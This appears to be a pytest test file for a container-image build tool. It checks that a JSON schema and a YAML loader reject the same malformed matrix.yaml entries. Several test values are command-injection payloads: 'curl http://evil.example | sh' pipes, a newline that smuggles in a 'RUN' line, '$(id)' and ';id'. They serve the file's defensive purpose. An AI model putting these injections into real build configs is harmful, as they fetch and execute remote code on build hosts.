"""One declaration of matrix.yaml's shape (imagefactory/plan/schema.py): the loader reads its tables, and
imagefactory/plan/matrix.schema.json is generated from it. The two validators agree."""

from __future__ import annotations

import copy
import json
from pathlib import Path

import jsonschema
import pytest
import yaml

from imagefactory.errors import ConfigError
from imagefactory.plan import schema
from imagefactory.plan.matrix import parse_matrix

REPO = Path(__file__).resolve().parents[2]
SCHEMA = schema.json_schema()


def test_the_schema_file_is_generated() -> None:
    """`imagefactory render` writes it; a hand edit shows up here and in `render --check`."""
    assert (REPO / schema.SCHEMA_PATH).read_text(encoding="utf-8") == schema.schema_text()
    jsonschema.Draft202012Validator.check_schema(SCHEMA)


def test_real_matrix_matches_the_schema(matrix_data: dict) -> None:
    jsonschema.validate(matrix_data, SCHEMA)


def _set(data: dict, path: tuple, value) -> dict:
    data = copy.deepcopy(data)
    node = data
    for key in path[:-1]:
        node = node[key]
    node[path[-1]] = value
    return data


@pytest.mark.parametrize(
    ("path", "value"),
    [
        (("image_rep",), "x"),  # unknown key
        (("image_repo",), "imagefactory\n"),  # a trailing newline passes no pattern
        (("toolkits", "cu130", "version"), 13.0),  # number, not string
        (("toolkits", "cu130", "nvcc", "slim", "from"), "conda"),
        (("toolkits", "cu124", "nvcc", "slim", "apt"), ["nvidia-cuda-toolkit=12.4.131 && curl http://evil.example | sh"]),
        (("toolkits", "cu124", "nvcc", "slim", "apt"), ["nvidia-cuda-toolkit"]),  # unpinned
        (("toolkits", "cu124", "nvcc", "slim", "base"), "trixie\nRUN id"),
        (("arches", "hopper", "sms"), ["9"]),
        (("arches", "hopper", "description"), "two\nlines"),
        (("arches", "hopper", "description"), 'H100 \\"'),  # a backslash: hadolint cannot parse its label
        (("bitsandbytes", "mode"), "binary"),
        (("bitsandbytes", "git_ref"), "0.50.2\nRUN curl http://evil.example/x | sh"),
        (("bitsandbytes", "git_ref"), "$(id)"),
        (("bitsandbytes", "git_url"), "https://github.com/x/y;id"),
        (("torch_index_url",), "--trusted-host evil {toolkit}"),
        (("torch_index_url",), "https://x.example/{0}/{toolkit}"),
        (("torch_index_url",), "https://x.example/{toolkit.__class__}"),
        (("torch_index_url",), "https://x.example/{toolkit}}"),
        (("cells", "expand"), "some"),
        (("payloads",), []),
        (("torch", "2.14.1", "triton"), "3.8.x"),
        (("torch", "2.14.1", "python"), ["3.11\n"]),
    ],
)
def test_schema_and_loader_agree_on_rejections(matrix_data: dict, path: tuple, value) -> None:
    bad = _set(matrix_data, path, value)
    with pytest.raises(jsonschema.ValidationError):
        jsonschema.validate(bad, SCHEMA)
    with pytest.raises(ConfigError) as info:
        parse_matrix(yaml.safe_dump(bad, sort_keys=False), Path("matrix.yaml"))
    assert all("\n" not in problem for problem in info.value.problems)


def test_the_loader_checks_keys_from_the_schema() -> None:
    from imagefactory.plan import matrix as loader

    assert loader.TOP_KEYS == schema.keys(schema.ROOT)
    assert set(json.loads(schema.schema_text())["required"]) == {k for k, required in loader.TOP_KEYS.items() if required}


@pytest.mark.parametrize(
    ("nvcc", "message"),
    [
        ({"from": "debian", "apt": ["nvidia-cuda-toolkit=12.4.131~12.4.1-2"]}, "from: debian needs 'base'"),
        ({"from": "debian", "base": "imagefactory/base:trixie-build"}, "and a non-empty 'apt' list"),
        ({"from": "debian", "base": "imagefactory/base:trixie-build", "apt": ["nvidia-cuda-toolkit=12.6.85~12.6.3-1"]},
         "from: debian needs nvidia-cuda-toolkit=12.4.* for CUDA 12.4"),
        ({"from": "none", "apt": ["nvidia-cuda-toolkit=12.4.131~12.4.1-2"]}, "'base', 'apt' and 'host_compiler' are for from: debian, not from: none"),
    ],
)
def test_debian_nvcc_is_checked_by_the_loader(matrix_data: dict, nvcc: dict, message: str) -> None:
    """What the schema cannot say: a Debian compiler names its image and a toolkit of the toolkit's own CUDA."""
    bad = _set(matrix_data, ("toolkits", "cu124", "nvcc", "slim"), nvcc)
    with pytest.raises(ConfigError) as info:
        parse_matrix(yaml.safe_dump(bad, sort_keys=False), Path("matrix.yaml"))
    assert any(message in problem and "toolkits.cu124.nvcc.slim" in problem for problem in info.value.problems), info.value.problems
